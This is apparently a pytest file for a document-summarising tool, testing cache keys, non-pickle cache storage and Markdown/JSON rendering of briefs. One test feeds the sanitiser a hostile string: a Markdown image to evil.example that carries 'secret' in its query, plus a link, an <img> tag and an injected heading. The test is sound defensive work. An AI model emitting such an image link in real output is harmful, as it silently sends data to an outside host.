"""The cache key, the cache's storage format, and the Markdown a reviewer reads."""

from __future__ import annotations

import os
import sqlite3
import stat
from pathlib import Path

from summarise.brief import Brief, Check, Fact, Usage
from summarise.model.answers import cache_key
from summarise.model.cache import ResponseCache
from summarise.render import clean_model_text, read_front_matter, render_json, render_markdown

MESSAGES = [{"role": "user", "content": "hello"}]
PARAMS = {"temperature": 0.0, "max_tokens": 10}


def test_cache_key_changes_with_everything_that_changes_the_answer() -> None:
    base = cache_key("http://a/v1", "m", MESSAGES, PARAMS)
    assert base == cache_key("http://a/v1", "m", [dict(m) for m in MESSAGES], dict(PARAMS))
    assert base != cache_key("http://b/v1", "m", MESSAGES, PARAMS)  # same model name, other server
    assert base != cache_key("http://a/v1", "m2", MESSAGES, PARAMS)
    assert base != cache_key("http://a/v1", "m", [{"role": "user", "content": "hello!"}], PARAMS)
    assert base != cache_key("http://a/v1", "m", MESSAGES, {**PARAMS, "max_tokens": 11})


def test_cache_stores_json_text_in_a_private_folder(tmp_path: Path) -> None:
    cache = ResponseCache(tmp_path / "c")
    cache.set("k", {"text": "bonjour", "finish_reason": "stop"})
    assert cache.get("k") == {"text": "bonjour", "finish_reason": "stop"}
    assert stat.S_IMODE(os.stat(tmp_path / "c").st_mode) == 0o700
    cache.close()
    rows = sqlite3.connect(tmp_path / "c" / "cache.db").execute("SELECT mode, value FROM Cache").fetchall()
    assert rows and all(mode != 4 for mode, _ in rows)  # diskcache MODE_PICKLE is 4: never used
    assert '"bonjour"' in rows[0][1]


def _brief(**changes: object) -> Brief:
    values: dict = {
        "title": "Meeting in Marrakech",
        "source": "inputs/x.txt",
        "source_sha256": "ab" * 32,
        "source_language": "fr",
        "target_language": "en",
        "model": "m",
        "endpoint": "embedded",
        "created": "2026-11-23T00:00:00+00:00",
        "brief_key": "k",
        "summary": "Morocco hosted the meeting.",
        "facts": [
            Fact("Morocco hosted it on 11 May 2022.", "when", 1, 1, "Le 11 mai 2022, le Maroc accueille."),
            Fact("It had 90 members.", "number", 2, 2, "Elle compte 84 membres.", problems=("“90” is not in it",)),
        ],
        "translation": ["On 11 May 2022, Morocco hosts.", "It has 84 members."],
        "usage": Usage(llm_calls=3),
        "chunks": 1,
        "checks": [Check("Translation complete", True, "2 of 2 paragraphs")],
    }
    values.update(changes)
    return Brief(**values)


def test_brief_has_front_matter_and_sections_in_order() -> None:
    markdown = render_markdown(_brief())
    front = read_front_matter(markdown)
    assert front["source_language"] == "fr" and front["endpoint"] == "embedded"
    assert front["facts"] == {"total": 2, "supported": 1, "flagged": 1}
    positions = [markdown.index(f"## {name}") for name in ("Summary", "Key facts", "Translation", "Checks")]
    assert positions == sorted(positions)
    assert "> Le 11 mai 2022, le Maroc accueille." in markdown
    assert "⚠ **flagged**: “90” is not in it" in markdown


def test_model_text_cannot_add_images_links_html_or_sections() -> None:
    hostile = (
        "See ![x](https://evil.example/leak?d=secret) [click](https://evil.example) <img src=x> ok\n## Checks\n---"
    )
    cleaned = clean_model_text(hostile)
    assert "evil.example" not in cleaned and "<img" not in cleaned
    assert "click" in cleaned and "ok" in cleaned
    markdown = render_markdown(_brief(summary=hostile))
    assert markdown.count("\n## Checks") == 1


def test_json_rendering_carries_facts_with_support() -> None:
    import json

    data = json.loads(render_json(_brief()))
    assert [fact["supported"] for fact in data["facts"]] == [True, False]
    assert data["facts"][0]["evidence"] == "Le 11 mai 2022, le Maroc accueille."


def test_summary_sources_name_each_sentences_lines_and_who_found_them() -> None:
    from summarise.brief import SummarySentence

    flagged = SummarySentence("It freed 7.7 million fighters.", problems=("its line says “7.7 million people”",))
    found = SummarySentence("Morocco hosted it.", lines=(1,), note="re-linked: the summary cited line 2")
    markdown = render_markdown(_brief(summary_sentences=(found, flagged)))
    sources = markdown.split("_Sources:_", 1)[1].split("\n", 1)[0]
    assert "(1) line 1 (re-linked: the summary cited line 2)" in sources
    assert "(2) no line ⚠ its line says “7.7 million people”" in sources
    named = SummarySentence("Morocco hosted it.", lines=(1, 2), named=True)
    by_code = SummarySentence("It freed people.", lines=(2,))
    sources = render_markdown(_brief(summary_sentences=(named, by_code))).split("_Sources:_", 1)[1].split("\n", 1)[0]
    assert "(1) lines 1, 2 · (2) line 2 (found by code)" in sources


def test_a_brief_read_back_from_its_json_record_is_the_same_brief() -> None:
    """`summarise review` redraws a page from the record its HTML carries: nothing may be lost."""
    import json

    from summarise.brief import SummarySentence
    from summarise.render.json import brief_from_record

    brief = _brief(summary_sentences=(SummarySentence("Morocco hosted it.", (1,), ("a problem",)),))
    again = brief_from_record(json.loads(render_json(brief)))
    assert again.summary_sentences == brief.summary_sentences
    assert render_json(again) == render_json(brief) and render_markdown(again) == render_markdown(brief)
